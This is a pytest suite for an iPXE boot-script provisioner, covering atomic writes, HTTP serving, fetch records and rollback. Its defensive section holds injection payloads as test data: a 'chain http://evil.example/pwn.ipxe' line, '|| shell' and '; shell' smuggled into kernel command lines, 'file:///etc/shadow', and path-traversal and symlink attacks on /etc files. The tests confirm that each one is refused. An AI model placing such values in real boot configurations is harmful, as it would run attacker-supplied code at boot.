"""The ipxe provisioner: scripts written atomically, served over real HTTP, fetches seen, rollback."""

from __future__ import annotations

import os

import httpx
import pytest

from console.errors import ActionError
from console.lab.machine import parse_ipxe
from console.provision import Assignment, check_node, open_provisioner
from console.provision.ipxe import IpxeProvisioner, IpxeServer, render_script, script_name
from console.secrets import Secrets
from inventory.loader import load_site_text

SITE = """
site: t-ipxe
defaults:
  bmc: {protocol: redfish, scheme: http, username: admin, password: "env:NOPE"}
images:
  - {name: flatcar, version: 4081.2.1, kernel: "http://127.0.0.1:8069/images/flatcar/4081.2.1/vmlinuz",
     initrd: "http://127.0.0.1:8069/images/flatcar/4081.2.1/initrd", cmdline: flatcar.first_boot=1,
     sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08}
  - {name: flatcar, version: 4152.2.0, kernel: "http://127.0.0.1:8069/images/flatcar/4152.2.0/vmlinuz",
     initrd: "http://127.0.0.1:8069/images/flatcar/4152.2.0/initrd"}
  - {name: bare, version: "1", iso: "http://127.0.0.1:8069/images/bare/1/bare.iso"}
provisioner: {kind: ipxe, url: "http://127.0.0.1:8069", root: ROOT}
racks:
  - name: r01
    nodes:
      - {name: n01, mac: "52:54:00:AA:00:01", bmc: {address: 127.1.9.1}}
      - {name: n02, bmc: {address: 127.1.9.2}}
"""


@pytest.fixture
def site(tmp_path):
    return load_site_text(SITE.replace("ROOT", str(tmp_path / "boot")))


def test_script_carries_the_image_the_lab_machine_installs(site):
    node, image = site.node("n01"), site.image("flatcar@4081.2.1")
    script = render_script(node, image)
    info = parse_ipxe(script)
    assert info["image_name"] == "flatcar" and info["image_version"] == "4081.2.1"
    assert info["sha256"] == image.sha256
    assert info["kernel"] == image.kernel and info["initrd"] == image.initrd
    assert "fleet.image=${image-name}@${image-version}" in script and "flatcar.first_boot=1" in script
    assert script_name("52:54:00:AA:00:01") == "52-54-00-aa-00-01.ipxe"


def test_nodes_and_images_that_cannot_pxe_are_refused_clearly(site):
    with pytest.raises(ActionError, match="n02: no MAC address"):
        check_node(site, site.node("n02"), site.image("flatcar@4081.2.1"))
    with pytest.raises(ActionError, match="bare@1 has no kernel/initrd"):
        check_node(site, site.node("n01"), site.image("bare@1"))
    no_root = site.model_copy(update={"provisioner": site.provisioner.model_copy(update={"root": None})})
    with pytest.raises(ActionError, match="needs provisioner.root"):
        open_provisioner(no_root, Secrets(environ={}))


async def test_assign_is_atomic_keeps_the_previous_and_rolls_back(site, tmp_path):
    prov = open_provisioner(site, Secrets(environ={}))
    node = site.node("n01")
    root = tmp_path / "boot"
    try:
        assert await prov.assignment(node) is None
        assert await prov.rollback(node) is None  # nothing recorded: nothing touched
        assert await prov.assign(node, site.image("flatcar@4152.2.0")) is None
        assert (await prov.assignment(node)).image == "flatcar@4152.2.0"
        assert await prov.previous(node) == Assignment(None, "no boot script")
        await prov.confirm(node)  # that reimage finished: 4152.2.0 is known-good now
        old = await prov.assign(node, site.image("flatcar@4081.2.1"))
        assert old.image == "flatcar@4152.2.0"
        assert (await prov.assignment(node)).image == "flatcar@4081.2.1"
        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
        # only the script and its previous: no temporary file left behind
        assert sorted(os.listdir(root)) == ["52-54-00-aa-00-01.ipxe", "52-54-00-aa-00-01.ipxe.previous"]
        assert oct((root / "52-54-00-aa-00-01.ipxe").stat().st_mode & 0o777) == "0o644"
        restored = await prov.rollback(node)
        assert restored.image == "flatcar@4152.2.0"
        assert (await prov.assignment(node)).image == "flatcar@4152.2.0"
        assert await prov.previous(node) is None
        # a first assignment rolled back leaves no script at all
        other = IpxeProvisioner(root)
        n3 = node.model_copy(update={"name": "n03", "mac": "52:54:00:aa:00:03"})
        await other.assign(n3, site.image("flatcar@4081.2.1"))
        assert await other.rollback(n3) == Assignment(None, "no boot script")
        assert await other.assignment(n3) is None
    finally:
        await prov.close()


async def test_server_serves_scripts_and_records_fetches_per_mac(site, tmp_path):
    root = tmp_path / "boot"
    server = IpxeServer(root, "127.0.0.1", 0)
    port = await server.start()
    url = f"http://127.0.0.1:{port}"
    prov = IpxeProvisioner(root, url)
    node = site.node("n01")
    try:
        assert await prov.fetches(node) == []
        await prov.assign(node, site.image("flatcar@4081.2.1"))
        async with httpx.AsyncClient() as http:
            got = await http.get(f"{url}/boot/52-54-00-aa-00-01.ipxe")
            assert got.status_code == 200 and parse_ipxe(got.text)["image_version"] == "4081.2.1"
            assert (await http.get(f"{url}/boot/52-54-00-aa-00-09.ipxe")).status_code == 404
            assert (await http.get(f"{url}/boot/52-54-00-aa-00-01.ipxe.previous")).status_code == 400
            assert (await http.get(f"{url}/boot/..%2Fsecret")).status_code in (400, 404)
        seen = await prov.fetches(node)
        assert [f.status for f in seen] == [200]
        assert seen[0].what == "/boot/52-54-00-aa-00-01.ipxe"
        assert await prov.fetches(node, since=seen[0].time) == []
        other = node.model_copy(update={"mac": "52:54:00:aa:00:09"})
        assert [f.status for f in await prov.fetches(other)] == [404]
    finally:
        await prov.close()
        await server.stop()


async def test_unreachable_server_is_a_clear_error(site, tmp_path):
    from console.errors import Unreachable

    server = IpxeServer(tmp_path, "127.0.0.1", 0)
    port = await server.start()
    await server.stop()  # nothing listens there now
    prov = IpxeProvisioner(tmp_path, f"http://127.0.0.1:{port}")
    try:
        with pytest.raises(Unreachable, match="ipxe provisioner"):
            await prov.fetches(site.node("n01"))
    finally:
        await prov.close()


# --------------------------------------------------------------------------- hostile values and files
INJECTED = "\nshell\nchain http://evil.example/pwn.ipxe"


def _tree(root) -> dict[str, bytes]:
    """Every entry of the boot root with its bytes (a link as its target), to compare before and after."""
    out = {}
    for name in sorted(os.listdir(root)):
        path = root / name
        out[name] = os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
    return out


@pytest.mark.parametrize("field, value, why", [
    ("cmdline", "quiet" + INJECTED, "holds a line break"),
    ("cmdline", "quiet\rshell", "holds a line break"),
    ("cmdline", "quiet\x1b[2J", "control or non-ASCII"),
    ("cmdline", "root=${password}", r"contains '\$'"),
    ("cmdline", "quiet || chain http://evil.example/pwn.ipxe", "token '\\|\\|'"),
    ("cmdline", "quiet && shell", "token '&&'"),
    ("cmdline", "quiet ; shell", "contains ';'"),
    ("cmdline", "quiet #rest", "starting with '#'"),
    ("cmdline", "quiet \\", "backslash"),
    ("cmdline", "quiet " * 1000, "6000 characters long, more than 4096"),
    ("kernel", "http://127.0.0.1:8069/vmlinuz" + INJECTED, "holds a line break"),
    ("kernel", "http://127.0.0.1:8069/vmlinuz?${username}", "not a plain http, https or tftp URL"),
    ("kernel", "http://127.0.0.1:8069/vmlinuz || shell", "not a plain http"),
    ("kernel", "file:///etc/shadow", "not a plain http"),
    ("initrd", "http://user:pw@127.0.0.1:8069/initrd", "not a plain http"),
    ("initrd", "http://127.0.0.1:8069/initrd" + INJECTED, "holds a line break"),
    ("version", "1" + INJECTED, "not a plain word"),
    ("sha256", "ab" + INJECTED, "not 64 lowercase hex"),
])
async def test_values_that_would_break_out_of_the_script_are_refused_and_nothing_is_written(
        site, tmp_path, field, value, why):
    root = tmp_path / "boot"
    prov = IpxeProvisioner(root)
    node, good = site.node("n01"), site.image("flatcar@4152.2.0")
    await prov.assign(node, good)
    await prov.confirm(node)
    before = _tree(root)
    bad = good.model_copy(update={field: value})  # past the inventory's own checks: the provisioner must hold
    with pytest.raises(ActionError, match=why) as err:
        await prov.assign(node, bad)
    assert "\n" not in str(err.value) and "\x1b" not in str(err.value)  # one line, nothing raw
    assert _tree(root) == before
    # the reimage plan refuses it too, before anything runs
    with pytest.raises(ActionError, match=why):
        check_node(site, node, bad)


@pytest.mark.parametrize("update, why", [
    ({"name": "n01" + INJECTED}, "holds a line break"),
    ({"name": "../../etc/cron.d/x"}, "not hostname-like"),
    ({"mac": "../../../etc/passwd"}, "not a MAC address"),
    ({"mac": "52:54:00:aa:00:01/../../x"}, "not a MAC address"),
])
async def test_node_names_and_macs_that_are_not_plain_are_refused(site, tmp_path, update, why):
    root = tmp_path / "boot"
    root.mkdir()
    node = site.node("n01").model_copy(update=update)
    with pytest.raises(ActionError, match=why):
        await IpxeProvisioner(root).assign(node, site.image("flatcar@4152.2.0"))
    assert os.listdir(root) == [] and sorted(os.listdir(tmp_path)) == ["boot"]


async def test_the_refused_script_is_never_served(site, tmp_path):
    """Over real HTTP: the node still gets the script it had, not one with the injected chain."""
    root = tmp_path / "boot"
    server = IpxeServer(root, "127.0.0.1", 0)
    port = await server.start()
    prov = IpxeProvisioner(root, f"http://127.0.0.1:{port}")
    node = site.node("n01")
    try:
        await prov.assign(node, site.image("flatcar@4081.2.1"))
        bad = site.image("flatcar@4152.2.0").model_copy(update={"cmdline": "quiet" + INJECTED})
        with pytest.raises(ActionError):
            await prov.assign(node, bad)
        async with httpx.AsyncClient() as http:
            got = await http.get(f"http://127.0.0.1:{port}/boot/52-54-00-aa-00-01.ipxe")
        assert got.status_code == 200 and "evil.example" not in got.text and "shell" not in got.text
        assert parse_ipxe(got.text)["image_version"] == "4081.2.1"
    finally:
        await prov.close()
        await server.stop()


async def test_a_symlinked_root_is_refused(site, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "boot").symlink_to(real)
    with pytest.raises(ActionError, match=r"boot root .*boot is a symbolic link: refused"):
        await IpxeProvisioner(tmp_path / "boot").assign(site.node("n01"), site.image("flatcar@4081.2.1"))
    assert os.listdir(real) == []


async def test_a_planted_symlink_as_script_is_not_followed(site, tmp_path):
    root = tmp_path / "boot"
    root.mkdir()
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secret-hash:19000::::::\n")
    secret.chmod(0o600)
    (root / "52-54-00-aa-00-01.ipxe").symlink_to(secret)
    prov = IpxeProvisioner(root)
    node = site.node("n01")
    with pytest.raises(ActionError, match=r"52-54-00-aa-00-01.ipxe is a symbolic link: not following it"):
        await prov.assign(node, site.image("flatcar@4081.2.1"))
    # neither copied into a world-readable .previous nor overwritten through the link
    assert sorted(os.listdir(root)) == ["52-54-00-aa-00-01.ipxe"]
    assert secret.read_text().startswith("root:$6$") and oct(secret.stat().st_mode & 0o777) == "0o600"
    # a .previous planted as a link: rollback neither reads nor follows it
    (root / "52-54-00-aa-00-01.ipxe").unlink()
    (root / "52-54-00-aa-00-01.ipxe.previous").symlink_to(secret)
    with pytest.raises(ActionError, match="is a symbolic link"):
        await prov.rollback(node)
    assert not (root / "52-54-00-aa-00-01.ipxe").exists()
    # and the server does not serve through one either
    (root / "52-54-00-aa-00-01.ipxe").symlink_to(secret)
    server = IpxeServer(root, "127.0.0.1", 0)
    port = await server.start()
    try:
        async with httpx.AsyncClient() as http:
            got = await http.get(f"http://127.0.0.1:{port}/boot/52-54-00-aa-00-01.ipxe")
        assert got.status_code == 403 and "secret-hash" not in got.text
    finally:
        await server.stop()


async def test_a_root_writable_by_others_or_owned_by_another_user_is_refused(site, tmp_path):
    root = tmp_path / "boot"
    root.mkdir()
    prov, node, image = IpxeProvisioner(root), site.node("n01"), site.image("flatcar@4081.2.1")
    root.chmod(0o777)
    with pytest.raises(ActionError, match=r"writable by others \(mode 0777\): refused"):
        await prov.assign(node, image)
    root.chmod(0o1777)  # sticky does not help: another user could still plant the script name
    with pytest.raises(ActionError, match="writable by others"):
        await prov.assign(node, image)
    root.chmod(0o755)
    if os.geteuid() == 0:
        os.chown(root, 65534, 65534)  # nobody's directory
        with pytest.raises(ActionError, match=r"owned by uid 65534 \(neither you nor root\)"):
            await prov.assign(node, image)
        os.chown(root, 0, 0)
    assert os.listdir(root) == []
    await prov.assign(node, image)
    assert sorted(os.listdir(root)) == ["52-54-00-aa-00-01.ipxe", "52-54-00-aa-00-01.ipxe.previous"]


async def test_a_retried_assign_keeps_the_last_known_good_record(site, tmp_path):
    """An assignment that never finished (no confirm) is not recorded as the rollback target."""
    root = tmp_path / "boot"
    prov, node = IpxeProvisioner(root), site.node("n01")
    await prov.assign(node, site.image("flatcar@4081.2.1"))
    await prov.confirm(node)  # known-good
    assert "# fleet-console-state: verified" in (root / "52-54-00-aa-00-01.ipxe").read_text()
    await prov.assign(node, site.image("flatcar@4152.2.0"))  # attempt 1: interrupted
    assert "# fleet-console-state: pending" in (root / "52-54-00-aa-00-01.ipxe").read_text()
    old = await prov.assign(node, site.image("flatcar@4152.2.0"))  # attempt 2
    assert old.image == "flatcar@4152.2.0"  # it did replace the unfinished one...
    assert (await prov.previous(node)).image == "flatcar@4081.2.1"  # ...but the record is the known-good one
    assert (await prov.rollback(node)).image == "flatcar@4081.2.1"
    # a node whose first ever assignment was interrupted: the record stays "no script"
    n3 = node.model_copy(update={"name": "n03", "mac": "52:54:00:aa:00:03"})
    await prov.assign(n3, site.image("flatcar@4081.2.1"))
    await prov.assign(n3, site.image("flatcar@4152.2.0"))
    assert await prov.previous(n3) == Assignment(None, "no boot script")
    assert await prov.rollback(n3) == Assignment(None, "no boot script") and await prov.assignment(n3) is None
